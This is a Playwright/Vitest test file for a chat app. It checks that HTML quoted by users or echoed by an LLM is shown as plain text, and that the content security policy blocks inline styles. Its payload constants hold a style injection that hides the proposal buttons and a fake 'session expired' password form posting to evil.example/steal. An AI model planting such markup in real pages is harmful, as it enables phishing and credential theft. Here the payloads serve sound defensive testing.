import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startOpenAiCompatibleServer } from '../server/test/support/openai-compatible-server.ts';
import { launchBrowser } from './support/browser.ts';
import { agentMessages, closePage, DETAILED_MESSAGE, proposalButtons, sendAndAwaitReply } from './support/chat.ts';
import { startServer } from './support/server.ts';

/**
 * The payloads: a style sheet that hides the proposal buttons and paints over
 * the page, and a fake "session expired" password form.
 */
const HIDE_BUTTONS = '<style>.proposal-actions{display:none!important} body{background:red}</style>';
const FAKE_FORM =
  '<form action="https://evil.example/steal" method="post"><p>Your session expired.</p><input type="password" name="password" placeholder="Password"><button type="submit">Sign in again</button></form>';
const PAYLOAD = `${HIDE_BUTTONS}\n\n${FAKE_FORM}`;

let browser: Browser;
const pageErrors: Error[] = [];
const cspViolations: string[] = [];

beforeAll(async () => {
  browser = await launchBrowser();
});

afterAll(async () => {
  await browser?.close();
  expect(pageErrors).toEqual([]);
  // Without 'unsafe-inline' in style-src, the app itself must not need inline styles.
  expect(cspViolations).toEqual([]);
});

async function openHome(baseUrl: string): Promise<Page> {
  const page = await (await browser.newContext({ viewport: { width: 1280, height: 860 } })).newPage();
  page.on('pageerror', (error) => pageErrors.push(error));
  page.on('console', (message) => {
    if (/Content Security Policy/i.test(message.text())) cspViolations.push(message.text());
  });
  await page.goto(`${baseUrl}/`);
  await page.getByRole('heading', { level: 1 }).waitFor();
  return page;
}

/** Elements the payload tried to create in the rendered text of any chat message (`.markdown`), by tag name. */
const injectedInMessages = (page: Page) =>
  page.evaluate(() =>
    Array.from(document.querySelectorAll('article[aria-label^="Message from"] .markdown :is(style, form, input, button, link, img)')).map(
      (element) => element.tagName,
    ),
  );

/** Sends the payload with a detailed request, waits for the proposal and checks that nothing of it is live. */
async function expectInertPayload(page: Page) {
  await sendAndAwaitReply(page, `${DETAILED_MESSAGE}\n\n${PAYLOAD}`);
  const { accept, modify } = proposalButtons(page);
  await accept.waitFor();
  await expect(accept.isVisible()).resolves.toBe(true);
  await expect(modify.isVisible()).resolves.toBe(true);
  expect(await injectedInMessages(page)).toEqual([]);
  await expect(page.getByRole('textbox', { name: 'Password' }).count()).resolves.toBe(0);
  await expect(page.getByRole('button', { name: 'Sign in again' }).count()).resolves.toBe(0);
  // The background stays the app's own.
  await expect(page.evaluate(() => getComputedStyle(document.body).backgroundColor)).resolves.not.toBe('rgb(255, 0, 0)');
  // The person's words stay visible as the characters they typed.
  await page.getByRole('article', { name: 'Message from You' }).getByText('<input type="password"', { exact: false }).waitFor();
}

describe('quoted HTML in chat messages is shown as text', () => {
  it('the offline agent quoting a request with a style sheet and a password form keeps the buttons and draws no form', async () => {
    const server = await startServer();
    try {
      const response = await fetch(`${server.baseUrl}/`);
      const csp = response.headers.get('content-security-policy') ?? '';
      expect(csp).toMatch(/style-src 'self'(;|$)/);
      expect(csp).not.toContain('unsafe-inline');

      const page = await openHome(server.baseUrl);
      await expectInertPayload(page);
      await closePage(page);
    } finally {
      await server.stop();
    }
  });

  it('an LLM answer that echoes raw HTML back keeps the buttons and draws no form', async () => {
    const llm = await startOpenAiCompatibleServer();
    const server = await startServer({
      LLM_PROVIDER: 'openai-compatible',
      LLM_BASE_URL: llm.baseUrl,
      LLM_API_KEY: 'sk-local-test',
      LLM_MODEL: 'local-model',
    });
    try {
      llm.reply({
        json: {
          kind: 'proposal',
          content: [
            'You wrote:',
            PAYLOAD,
            '## Scope\n- Fix the API routes after the App Router upgrade',
            '## Plan\n1. Reproduce\n2. Fix',
            '## Next steps\nAn expert reviews the task and emails you.',
          ].join('\n\n'),
          staffNotes: '',
          brief: {
            title: 'Fix API routes after the App Router upgrade',
            description: 'API routes return 500',
            diagnosis: null,
            clarifiedScope: null,
            jobSummaryForEngineer: null,
          },
          reading: { requestType: 'bug_fix', stack: ['Next.js'], aiTools: [] },
          estimate: { hoursLow: 4, hoursHigh: 8 },
        },
      });
      const page = await openHome(server.baseUrl);
      await expectInertPayload(page);
      await agentMessages(page).last().getByText('<form action=', { exact: false }).waitFor();
      await closePage(page);
    } finally {
      await server.stop();
      await llm.close();
    }
  });
});
